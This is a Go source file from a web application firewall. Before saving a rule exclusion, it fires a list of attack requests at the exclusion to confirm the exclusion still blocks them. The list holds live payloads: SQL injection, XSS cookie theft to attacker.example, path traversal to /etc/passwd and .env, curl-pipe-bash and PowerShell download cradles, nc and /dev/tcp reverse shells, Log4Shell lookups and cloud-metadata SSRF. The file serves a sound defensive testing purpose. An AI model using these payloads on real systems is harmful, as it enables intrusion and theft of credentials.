package waf

import (
	"encoding/json"
	"net/netip"
	"net/url"
	"slices"
	"strings"

	"edge.internal/gateway/internal/waf/domain"
	"edge.internal/gateway/internal/waf/engine"
)

// place is the position of an attack in a request.
type place int

const (
	inQuery place = iota
	inForm
	inJSON
	inCookie
	inHeader // User-Agent
	inPath
)

// attack is a request that the core rule set blocks at its first level.
type attack struct {
	name  string
	in    place
	value string
}

// attacks are tried against every exclusion before it is saved: some of each kind that the core rule set knows.
var attacks = []attack{
	{"SQL injection: always true", inQuery, `1' OR '1'='1`},
	{"SQL injection: union", inQuery, `-1 UNION SELECT username, password FROM users--`},
	{"SQL injection: union in a form", inForm, `-1' UNION ALL SELECT NULL,NULL,version()-- -`},
	{"SQL injection: in JSON", inJSON, `x' OR 1=1; DROP TABLE users;--`},
	{"SQL injection: sleeping", inQuery, `1' AND SLEEP(5)-- -`},
	{"SQL injection: benchmark", inQuery, `1 AND BENCHMARK(5000000,MD5(1))`},
	{"SQL injection: waiting", inForm, `1'; WAITFOR DELAY '0:0:5'--`},
	{"SQL injection: schema", inQuery, `1 UNION SELECT table_name FROM information_schema.tables`},
	{"SQL injection: stored procedure", inQuery, `'; EXEC xp_cmdshell('dir')--`},
	{"SQL injection: reading a file", inQuery, `1 UNION SELECT load_file('/etc/passwd')`},
	{"SQL injection: in a cookie", inCookie, `1' OR '1'='1' --`},
	{"SQL injection: order by", inForm, `1' ORDER BY 10-- -' UNION SELECT 1`},
	{"NoSQL injection", inQuery, `{"$where": "sleep(5000) || '1'=='1"}`},
	{"script: element", inQuery, `<script>alert(1)</script>`},
	{"script: element in a form", inForm, `<script src="https://attacker.example/x.js"></script>`},
	{"script: element in JSON", inJSON, `<script>document.location='https://attacker.example/'+document.cookie</script>`},
	{"script: image that fails", inQuery, `<img src=x onerror=alert(document.domain)>`},
	{"script: drawing that loads", inForm, `<svg/onload=alert(1)>`},
	{"script: address", inQuery, `<a href="javascript:alert(1)">x</a>`},
	{"script: frame", inForm, `<iframe src="javascript:alert(1)"></iframe>`},
	{"script: body that loads", inQuery, `<body onload=alert('x')>`},
	{"script: in a cookie", inCookie, `<script>alert(1)</script>`},
	{"script: in the user agent", inHeader, `<script>alert(1)</script>`},
	{"script: input that gets the focus", inQuery, `"><input autofocus onfocus=alert(1)>`},
	{"script: object", inForm, `<object data="data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg=="></object>`},
	{"file: passwords by steps up", inQuery, `../../../../etc/passwd`},
	{"file: passwords in a form", inForm, `../../../../../../etc/passwd`},
	{"file: steps up in the path", inPath, `/../../../../etc/passwd`},
	{"file: encoded steps up in the path", inPath, `/..%2f..%2f..%2f..%2fetc%2fpasswd`},
	{"file: shadow", inQuery, `/etc/shadow`},
	{"file: of the process", inQuery, `/proc/self/environ`},
	{"file: of Windows", inQuery, `..\..\..\windows\win.ini`},
	{"file: of a version control", inPath, `/.git/config`},
	{"file: of an environment", inPath, `/.env`},
	{"file: of the shell", inPath, `/.bash_history`},
	{"file: of a web server", inPath, `/.htaccess`},
	{"file: in JSON", inJSON, `../../../../etc/passwd`},
	{"file from elsewhere: by address", inQuery, `http://192.0.2.1/shell.txt?`},
	{"command: after a semicolon", inQuery, `;cat /etc/passwd`},
	{"command: piped", inQuery, `| /bin/cat /etc/passwd`},
	{"command: in back quotes", inForm, "`cat /etc/passwd`"},
	{"command: substituted", inQuery, `$(wget https://attacker.example/x -O /tmp/x)`},
	{"command: fetched and run", inForm, `; curl https://attacker.example/x.sh | bash`},
	{"command: shell over the network", inQuery, `; nc -e /bin/sh 192.0.2.1 4444`},
	{"command: shell of bash", inForm, `bash -i >& /dev/tcp/192.0.2.1/4444 0>&1`},
	{"command: PowerShell", inQuery, `powershell.exe -nop -w hidden -c "IEX (New-Object Net.WebClient).DownloadString('http://192.0.2.1/x')"`},
	{"command: Windows", inQuery, `& cmd.exe /c dir c:\`},
	{"command: Shellshock", inHeader, `() { :; }; /bin/bash -c "cat /etc/passwd"`},
	{"command: in JSON", inJSON, `; cat /etc/passwd; id`},
	{"PHP: code", inQuery, `<?php system('id'); ?>`},
	{"PHP: evaluated", inForm, `eval(base64_decode('c3lzdGVtKCdpZCcpOw=='));`},
	{"PHP: wrapper", inQuery, `php://filter/convert.base64-encode/resource=index.php`},
	{"PHP: object", inForm, `O:8:"stdClass":1:{s:4:"name";s:2:"id";}`},
	{"PHP: functions", inQuery, `shell_exec('cat /etc/passwd')`},
	{"Java: look-up", inHeader, `${jndi:ldap://attacker.example/a}`},
	{"Java: look-up in a parameter", inQuery, `${jndi:ldap://attacker.example/a}`},
	{"Java: hidden look-up", inForm, `${${lower:j}ndi:${lower:l}dap://attacker.example/a}`},
	{"Java: class loader", inQuery, `class.module.classLoader.resources.context.parent.pipeline.first.pattern=java.lang.Runtime`},
	{"Java: runtime", inForm, `java.lang.Runtime.getRuntime().exec("id")`},
	{"JavaScript: prototype", inJSON, `__proto__.constructor.prototype`},
	{"JavaScript: server code", inQuery, `require('child_process').exec('id')`},
	{"template: expression", inForm, `{{constructor.constructor('return process')().mainModule.require('child_process').execSync('id')}}`},
	{"request to the inside: metadata", inQuery, `http://169.254.169.254/latest/meta-data/iam/security-credentials/`},
	{"header: split", inQuery, "x\r\nSet-Cookie: session=1\r\n\r\n<html>"},
	{"directory: LDAP", inQuery, `*)(uid=*))(|(uid=*`},
	{"scanner: sqlmap", inHeader, `sqlmap/1.7 (https://sqlmap.org)`},
	{"scanner: nikto", inHeader, `Mozilla/5.00 (Nikto/2.1.6) (Evasions:None) (Test:000003)`},
}

// requests sends the attack where an exclusion applies: to its path and, for an exclusion of a parameter, in that parameter. If the
// exclusion is for a cookie or a header, that is attacked, too.
func (x attack) requests(at domain.Exclusion) []*engine.Request {
	list := []*engine.Request{x.request(at)}
	switch {
	case x.in == inPath:
	case at.Variable == "REQUEST_COOKIES" && x.in != inCookie:
		x.in = inCookie
		list = append(list, x.request(at))
	case at.Variable == "REQUEST_HEADERS" && x.in != inHeader:
		x.in = inHeader
		list = append(list, x.request(at))
	}
	return list
}

func (x attack) request(at domain.Exclusion) *engine.Request {
	path, name := "/", "q"
	if at.Path != "" {
		path = (&url.URL{Path: at.Path}).EscapedPath()
	}
	if at.Parameter != "" {
		name = at.Parameter
	}
	q := &engine.Request{
		ID: "attack", Method: "GET", URI: path, Version: "HTTP/1.1", Complete: true,
		Source: netip.MustParseAddrPort("192.0.2.1:50000"), Destination: netip.MustParseAddrPort("192.0.2.2:443"),
	}
	add := func(name, value string) {
		q.Header = slices.DeleteFunc(q.Header, func(f engine.Field) bool { return f.Name == name })
		q.Header = append(q.Header, engine.Field{Name: name, Value: value})
	}
	add("host", "www.example.net")
	add("user-agent", "Mozilla/5.0 (X11; Linux x86_64; rv:128.0) Gecko/20100101 Firefox/128.0")
	add("accept", "text/html,application/json;q=0.9")
	switch x.in {
	case inQuery:
		q.URI += "?" + url.QueryEscape(name) + "=" + url.QueryEscape(x.value)
	case inForm:
		q.Method, q.Body = "POST", []byte(url.QueryEscape(name)+"="+url.QueryEscape(x.value))
		add("content-type", "application/x-www-form-urlencoded")
	case inJSON:
		// In the engine, the members of a JSON document are parameters prefixed with json.
		member := strings.TrimPrefix(name, "json.")
		q.Method = "POST"
		q.Body, _ = json.Marshal(map[string]string{member: x.value})
		add("content-type", "application/json")
	case inCookie:
		add("cookie", "theme=light; "+url.QueryEscape(name)+"="+x.value)
	case inHeader:
		if at.Variable != "REQUEST_HEADERS" {
			name = "user-agent"
		}
		add(strings.ToLower(name), x.value)
	case inPath:
		q.URI = strings.TrimSuffix(path, "/") + x.value
	}
	return q
}
